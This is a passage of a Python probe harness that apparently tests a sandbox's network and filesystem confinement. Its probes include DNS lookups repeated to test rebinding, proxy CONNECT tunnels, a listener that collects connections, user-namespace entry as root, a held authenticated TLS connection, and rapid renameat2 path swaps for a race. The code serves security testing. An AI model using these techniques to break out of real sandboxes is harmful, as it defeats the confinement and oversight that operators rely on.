    """Asks a host for something, so many times; outside as a program does that looks a name up when it checks it and again when it connects."""
    def run():
        for _ in range(times):
            ask = f"GET /from-{PLAN['side']} HTTP/1.1\r\nhost: {name}:{port}\r\nconnection: close\r\n\r\n".encode()
            addresses = [name]
            for _ in range(2 if PLAN["names"] else 0):
                addresses = addresses_of("twin." + name)
            with socket.create_connection((addresses[0], int(port)), timeout=PATIENCE) as stream:
                stream.settimeout(PATIENCE)
                stream.sendall(ask)
                outcome = outcome_of(received(stream))
        return outcome
    return attempt(run)


def addresses_of(name):
    """Where the run's own server of names says that a name leads; an IPv4 address in IPv6 is the IPv4 address, as for a kernel."""
    host, port = PLAN["names"].rsplit(":", 1)
    found = []
    for kind, size in ((1, 4), (28, 16)):
        question = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0)
        question += b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
            packets.settimeout(3)
            packets.connect((host, int(port)))
            packets.send(question)
            data = packets.recv(4096)
        mark = struct.pack("!HHIH", kind, 1, 0, size)
        for part in data[len(question):].split(mark)[1:]:
            found.append(socket.inet_ntop(socket.AF_INET if size == 4 else socket.AF_INET6, part[:size]))
    return [address.removeprefix("::ffff:") for address in found]


def proxied(first_line):
    """Asks the explicit proxy inside; through a tunnel, if it opens one."""
    target = filled(first_line).split(" ")[1].split("//")[-1].split("/")[0]
    name, _, port = target.rpartition(":")
    port = int(port) if port.isdigit() and name else 80
    ask = f"{filled(first_line)}\r\nhost: {target}\r\nconnection: close\r\n\r\n".encode()
    through = f"GET / HTTP/1.1\r\nhost: {target}\r\nconnection: close\r\n\r\n".encode()
    proxy = ("127.0.0.1", 3128)
    if PLAN.get("namespace"):
        proxy = (at((name or target).strip("[]")), port)
        answer(*proxy)

    def run():
        with socket.create_connection(proxy, timeout=PATIENCE) as stream:
            stream.settimeout(PATIENCE)
            stream.sendall(ask)
            if first_line.startswith("CONNECT "):
                opened = stream.recv(4096)
                if b" 200 " not in opened or b"collected" in opened:
                    return outcome_of(opened)
                stream.sendall(through)
            return outcome_of(received(stream))
    return attempt(run)


def serve(name, port, key_number, _marker):
    """Somebody to be reached: listens on every address and on an abstract socket, and shares memory, until it is ended."""
    segment = LIBC.shmget(int(key_number), 4096, 0o1666)

    def end(*_):
        LIBC.shmctl(segment, 0, None)
        os._exit(0)

    signal.signal(signal.SIGTERM, end)
    signal.signal(signal.SIGALRM, end)
    signal.alarm(LONGEST_RUN_SECONDS)
    abstract, streams = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_INET)
    abstract.bind("\0" + name)
    abstract.listen()
    streams.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    streams.bind(("0.0.0.0", int(port)))
    streams.listen()
    print("listening", flush=True)
    while True:
        stream, _ = streams.accept()
        stream.recv(4096)
        stream.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 9\r\n\r\ncollected")
        stream.close()


# ---- running a plan ----------------------------------------------------------------------------------------------


def enter_namespaces():
    """Namespaces of its own, as its root, without anything that confines: where the boundary would be and is not."""
    uid, gid = os.getuid(), os.getgid()
    everything = 0x10000000 | 0x20000 | 0x40000000 | 0x8000000 | 0x4000000 | 0x20000000
    if LIBC.unshare(everything) != 0:
        raise OSError(ctypes.get_errno(), "namespaces")
    for path, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{path}", "w") as file:
            file.write(text)
    LIBC.mount(None, b"/", None, 0x4000 | 0x40000, None)
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        os._exit(0)
    LIBC.mount(b"proc", b"/proc", b"proc", 0, None)


def hold(host):
    """Works on for as long as it may: keeps one connection open, and leaves marks. Asks over the connection once, and again when it is told to go on."""
    global ssl
    import ssl as found
    ssl = found
    head = f"GET /v1/accounts HTTP/1.1\r\nhost: {host}\r\nauthorization: Bearer {key()}\r\nx-side: {PLAN['side']}\r\n\r\n"
    stream = trust().wrap_socket(connected(host, 443), server_hostname=host)
    stream.settimeout(PATIENCE)

    def ask():
        try:
            stream.sendall(head.encode())
            outcome = outcome_of(received(stream))
            return "made" if outcome in PLAN["taken"] else outcome
        except ssl.SSLError as error:
            return f"tls {error.reason}"
        except OSError as error:
            return name_of(error.errno) if error.errno else "closed"

    print("first", ask(), flush=True)
    until_then = time.monotonic() + LONGEST_RUN_SECONDS
    while not os.path.exists("/workspace/.go") and time.monotonic() < until_then:
        with open("/workspace/.marks", "ab") as marks:
            marks.write(b".")
        time.sleep(0.02)
    print("second", ask(), flush=True)


def swap(one, other):
    """Exchanges what lies at two paths, as fast as it can, until somebody has had enough."""
    one, other, at_once, until_then = one.encode(), other.encode(), 2, time.monotonic() + LONGEST_SWAP_SECONDS
    while not os.path.exists("/workspace/.swapped-enough") and time.monotonic() < until_then:
        for _ in range(200):
            LIBC.renameat2(-100, one, -100, other, at_once)


def run_one(probe, out):
    signal.alarm(DEADLINE_SECONDS)
    try:
        if PLAN.get("namespace"):
            enter_namespaces()
            signal.alarm(DEADLINE_SECONDS)
        function, *arguments = probe["attempt"]
        outcome = globals()[function](*arguments)
    except OSError as error:
        outcome = f"skip {error}"
    outcome, detail = outcome if isinstance(outcome, tuple) else (outcome, b"")
    line = json.dumps({"outcome": outcome, "detail": base64.b64encode(detail[:16384]).decode()})
    os.write(out, line.encode())
    os._exit(0)


def in_a_process(probe):
    """Its own process: an attempt that is killed ends nothing else."""
    out, into = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(out)
        run_one(probe, into)
    os.close(into)
    data = b""
    deadline = time.monotonic() + DEADLINE_SECONDS + 2
    os.set_blocking(out, False)
    while time.monotonic() < deadline:
        try:
            more = os.read(out, 65536)
            if not more:
                break
            data += more
        except BlockingIOError:
            time.sleep(0.002)
    os.close(out)
    ended, status = os.waitpid(child, os.WNOHANG)
    for _ in range(500):
        if ended:
            break
        time.sleep(0.002)
        ended, status = os.waitpid(child, os.WNOHANG)
    if not ended:
        os.kill(child, signal.SIGKILL)
        status = os.waitpid(child, 0)[1]
    if data:
        return json.loads(data)
    code = os.waitstatus_to_exitcode(status)
    return {"outcome": f"killed {signal.Signals(-code).name}" if code < 0 else f"failed {code}", "detail": ""}


def main():
    global PLAN
    if sys.argv[1] == "serve":
        serve(*sys.argv[2:])
    if sys.argv[1] == "swap":
        return swap(*sys.argv[2:])
    if sys.argv[1] == "hold":
        PLAN = json.loads(sys.argv[2])
        return hold(sys.argv[3])
    PLAN = json.loads(sys.argv[1])
    for probe in PLAN["probes"]:
        print("@" + json.dumps({"id": probe["id"], **in_a_process(probe)}), flush=True)


main()
